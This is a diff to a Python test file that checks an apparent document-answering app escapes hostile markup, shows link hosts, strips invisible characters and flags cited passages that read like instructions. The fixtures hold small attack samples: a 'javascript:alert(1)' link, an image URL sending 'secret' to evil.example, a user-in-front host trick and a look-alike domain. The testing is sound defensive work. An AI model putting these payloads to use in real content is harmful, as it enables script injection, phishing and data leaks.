@@ -75,13 +75,48 @@ def test_nothing_gives_no_blocks(text: str) -> None:
 
 
 def test_markup_of_documents_stays_text() -> None:
-    hostile = "![x](http://e.com/x.png) <img src=x> :material/home: $x$"
+    hostile = "![x](x.png) <img src=x> :material/home: $x$ [y](javascript:alert(1))"
     assert text_of(prose.blocks(hostile)) == [hostile]
+    hostile += " http://evil.example"
     label = words.plain(hostile)
     assert "\\!\\[x\\]\\(" in label
     assert "\\<img" in label
     assert ":material" not in label
     assert "http://" not in label
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ('See [the bank](https://bank.evil.example/a(b)?q=1 "t").', "See the bank{bank.evil.example}."),
+        ("![chart](http://evil.example/?q=secret)", "chart{image at evil.example, not loaded}"),
+        ("At https://plain.example/x.", "At https://plain.example/x."),
+        ("At https://bank.example@evil.example/x", "At https://bank.example@evil.example/x{evil.example}"),
+        ("[b](https://b\u0430nk.example)", "b{xn--bnk-6cd.example}"),
+        ("[b](http://[)", "b{an odd address}"),
+    ],
+    ids=["link", "image", "address", "user in front", "look-alike", "odd"],
+)
+def test_links_are_text_and_show_their_host(text: str, shown: str) -> None:
+    for sentences in ((), (Sentence(text, ()),)):
+        (block,) = prose.blocks(text, sentences)
+        drawn = "".join(run.get("text", f"{{{run.get('host')}}}") for run in block["runs"])
+        assert drawn == shown
+
+
+def test_what_nobody_sees_is_not_in_a_label() -> None:
+    assert words.plain("ig\u200bnore \u202eabc") == "ignore abc"
+
+
+def test_a_passage_that_instructs_is_marked_on_its_citation(library: FakeLibrary) -> None:
+    library.held = [a_document()]
+    (citation,) = an_answer().citations
+    suspect = replace(citation, instructs=True)
+    (source,) = exchange.whole("Why?", an_answer(citations=(suspect,)))["sources"]
+    assert "reads like an instruction" in source["warning"]
+    assert "reads like an instruction" in passage.cited(library, suspect, None)["warning"]  # type: ignore[arg-type]
+    assert not passage.cited(library, suspect, 3)["warning"]  # type: ignore[arg-type]
+    assert not passage.cited(library, citation, None)["warning"]  # type: ignore[arg-type]
 
 
 def test_an_answer_says_how_sure_it_is_and_what_was_left_out() -> None:
@@ -90,7 +125,9 @@ def test_an_answer_says_how_sure_it_is_and_what_was_left_out() -> None:
     assert data["facts"][0]["words"] == "High confidence"
     assert "0.82" in data["facts"][0]["detail"]
     assert len(data["notes"]) == 2
-    assert data["sources"] == [{"number": 1, "title": "Bridges", "page": "p. ii", "score": "cosine 0.71"}]
+    assert data["sources"] == [
+        {"number": 1, "title": "Bridges", "page": "p. ii", "score": "cosine 0.71", "warning": ""}
+    ]
     assert data["active"] == 1
 
 
